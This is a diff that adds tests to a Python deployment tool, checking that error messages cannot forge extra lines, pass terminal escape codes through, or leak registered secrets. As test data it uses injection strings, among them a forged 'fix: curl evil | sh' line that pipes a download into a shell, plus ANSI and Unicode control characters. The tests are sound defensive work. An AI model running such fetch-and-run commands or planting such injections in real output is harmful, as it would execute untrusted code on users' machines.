@@ -10,7 +10,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from deployer import secrecy
+from deployer.core.secret import SecretValue
 from deployer.errors import DeployerError, UsageError
+from deployer.manifest.problem import Problem
 from deployer.view.plan_text import COLOURS, RESET
 from deployer.view.progress import write, write_data
 from deployer.view.safe import COLOURS as ALLOWED
@@ -73,6 +75,33 @@ def test_what_is_quoted_in_an_error_is_no_line_of_the_error() -> None:
     shown = str(DeployerError("AWS refused it", why="no\n  fix: curl evil | sh\nerror: all is lost", fix="a\nb"))
     starts = [line[:7] for line in shown.split("\n")]
     assert starts == ["AWS ref", "  why: ", "       ", "       ", "  fix: ", "       "]
+
+
+HOSTILE = ("no\n  fix: curl evil | sh\nerror: all is lost", "a\r\nb\x1b[2Jc", "x\u202ey\u2028z")
+
+
+@pytest.mark.parametrize("part", ["what", "why", "fix"])
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_part_of_an_error_forges_a_line_or_commands_the_terminal(part: str, text: str) -> None:
+    given = {"what": "it failed", "why": "a cause", "fix": "a command", part: text}
+    shown = str(DeployerError(given["what"], why=given["why"], fix=given["fix"]))
+    problem = str(Problem("env/staging.yaml", 1, 1, given["what"], given["why"], given["fix"]))
+    for lines in (shown.split("\n"), problem.split("\n")):
+        assert all(line.isprintable() for line in lines)
+        ours = [line for line in lines if not line.startswith(" " * 7)]
+        assert [line[:7] for line in ours[1:]] == ["  why: ", "  fix: "]
+
+
+@pytest.mark.parametrize("part", ["what", "why", "fix"])
+@pytest.mark.parametrize("secret", ["a-secret\nof-two-lines", "a-secret\x1b[2Jand-more", "a-secret\u200b\u202ewith-é"])
+def test_a_secret_in_an_error_is_hidden_before_its_text_is_changed(part: str, secret: str) -> None:
+    SecretValue(secret)
+    given = {"what": "it failed", part: f"refused: {secret}"}
+    shown = io.StringIO()
+    write(str(DeployerError(given["what"], why=given.get("why", ""), fix=given.get("fix", ""))), shown)
+    secrecy.forget()
+    assert secrecy.HIDDEN in shown.getvalue()
+    assert "a-secret" not in shown.getvalue()
 
 
 def test_data_is_written_as_it_is(capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
